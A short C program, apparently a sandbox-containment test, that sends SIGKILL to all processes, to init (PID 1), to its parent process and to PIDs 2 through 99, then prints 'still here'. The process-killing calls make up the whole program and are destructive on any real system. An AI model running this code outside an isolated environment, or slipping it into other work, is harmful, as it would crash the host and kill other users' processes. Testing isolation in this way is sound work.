#include <signal.h>
#include <stdio.h>
#include <unistd.h>

int main(void) {
  kill(-1, SIGKILL);
  kill(1, SIGKILL);
  kill(getppid(), SIGKILL);
  for (int process = 2; process < 100; process++) if (process != getpid()) kill(process, SIGKILL);
  puts("still here");
}
